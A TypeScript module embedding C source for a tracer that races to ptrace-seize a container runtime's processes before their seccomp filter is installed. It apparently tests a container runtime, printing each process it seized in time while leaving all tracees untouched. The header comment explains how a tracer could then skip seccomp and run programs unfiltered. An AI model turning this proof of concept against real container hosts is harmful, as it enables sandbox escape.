// A static C program that attacks `exec` from inside a container the way a root process in it
// can: it watches /proc for new processes and PTRACE_SEIZEs each one. A process seized while
// it is still the runtime (its executable is not the container's busybox) is under the
// attacker's control before its seccomp filter is installed: a tracer can then skip the
// seccomp(2) call and the program exec'd after it runs unfiltered (9 of 450 execs did in the
// attack run). The tracer prints "seized-before-exec PID" for each such process and stops
// after a deadline; it lets every tracee go on untouched.
import { staticProgram } from './static-c'

const SOURCE = String.raw`
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static char seen[1 << 22];

/* Answers whatever our tracees report without blocking: a tracee that exits must be waited
 * for by its tracer before its parent can reap it, and one that stops for a signal goes on
 * (detached) with that signal. */
static void settle(void) {
    int status;
    pid_t pid;
    while ((pid = waitpid(-1, &status, WNOHANG | __WALL)) > 0)
        if (WIFSTOPPED(status)) ptrace(PTRACE_DETACH, pid, 0, WSTOPSIG(status) == SIGTRAP ? 0 : WSTOPSIG(status));
}

int main(int argc, char **argv) {
    int seconds = argc > 1 ? atoi(argv[1]) : 10;
    struct stat bb;
    if (stat("/bin/busybox", &bb) < 0) return 2;
    time_t end = time(NULL) + seconds;
    pid_t self = getpid();
    setvbuf(stdout, NULL, _IOLBF, 0);
    while (time(NULL) < end) {
        DIR *d = opendir("/proc");
        if (!d) return 2;
        struct dirent *e;
        while ((e = readdir(d))) {
            pid_t pid = atoi(e->d_name);
            if (pid <= 1 || pid == self || pid >= (int)sizeof seen || seen[pid]) continue;
            char exe[64];
            struct stat st;
            snprintf(exe, sizeof exe, "/proc/%d/exe", pid);
            /* Refused now (still privileged, or not dumpable): try again on the next pass. */
            if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0) continue;
            seen[pid] = 1;
            /* Seized while its executable is not the container's busybox: still the runtime,
             * before its seccomp filter, which a tracer could now skip. */
            if (stat(exe, &st) == 0 && !(st.st_dev == bb.st_dev && st.st_ino == bb.st_ino))
                printf("seized-before-exec %d\n", pid);
        }
        closedir(d);
        settle();
    }
    printf("tracer-done\n");
    return 0;
}
`

/** Path of the compiled tracer (static, so it runs in a busybox rootfs). */
export function raceTracer(): string {
  return staticProgram('tracer', SOURCE)
}
